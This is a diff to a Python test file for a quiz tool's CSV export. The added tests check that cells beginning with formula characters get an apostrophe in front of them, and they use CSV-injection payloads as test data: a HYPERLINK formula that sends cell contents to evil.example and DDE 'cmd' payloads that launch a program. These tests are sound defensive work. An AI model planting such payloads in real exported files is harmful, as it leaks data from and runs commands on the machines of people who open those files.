@@ -6,6 +6,7 @@ import copy
 import csv
 import hashlib
 import io
+import json
 import shutil
 from pathlib import Path
 
@@ -18,7 +19,7 @@ from quizgen.cli import main
 from quizgen.deck import load_deck_with_sources
 from quizgen.errors import QuizgenError
 from quizgen.export import write_csv
-from quizgen.export_csv import render_csv
+from quizgen.export_csv import FORMULA_START, neutralised, render_csv
 
 MINI_DIR = Path(__file__).parent / "fixtures" / "mini"
 # The columns the export promises, in order (see the export's documentation).
@@ -126,7 +127,33 @@ cell_text = st.text(st.characters(blacklist_characters="\x00", blacklist_categor
 def test_any_text_round_trips_through_csv(prompt, quote):
     deck = one_question_deck(prompt=prompt, quote=quote, claimant=None)
     [row] = list(csv.DictReader(io.StringIO(render_csv(deck), newline="")))
-    assert (row["prompt"], row["quote"], row["claimant"]) == (prompt, quote, "")
+    assert (row["prompt"], row["quote"], row["claimant"]) == (neutralised(prompt), neutralised(quote), "")
+    assert (row["prompt"] != prompt) == prompt.startswith(FORMULA_START)
+
+
+@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
+                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
+def test_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(cell, tmp_path):
+    deck = one_question_deck(prompt=cell, quote=cell, claimant=cell)
+    deck["questions"][0]["answer"] = cell
+    deck["questions"][0]["evidence"][0]["value"] = cell
+    deck["questions"][0]["distractors"] = [cell]
+    [row] = list(csv.DictReader(io.StringIO(render_csv(deck), newline="")))
+    for column in ("prompt", "answer", "quote", "claimant", "distractors"):
+        assert row[column] == "'" + cell
+    # The command line writes the same cells.
+    (tmp_path / "src.txt").write_text("Intro. " + cell + " Outro.", encoding="utf-8")
+    (tmp_path / "deck.json").write_text(json.dumps(deck), encoding="utf-8")
+    result = CliRunner().invoke(main, ["export", str(tmp_path / "deck.json"), "--csv", str(tmp_path / "out.csv")])
+    assert result.exit_code == 0, result.output
+    _, [written] = read_rows(tmp_path / "out.csv")
+    assert written["answer"] == "'" + cell
+
+
+def test_ordinary_cells_are_left_alone():
+    deck = one_question_deck(prompt="In 1931, ___ moved to Geneva.", quote="Anna Keller moved", claimant=None)
+    [row] = list(csv.DictReader(io.StringIO(render_csv(deck), newline="")))
+    assert row["prompt"] == "In 1931, ___ moved to Geneva." and row["quote"] == "Anna Keller moved"
 
 
 def test_bad_deck_writes_nothing_and_keeps_the_old_file(mini, tmp_path):
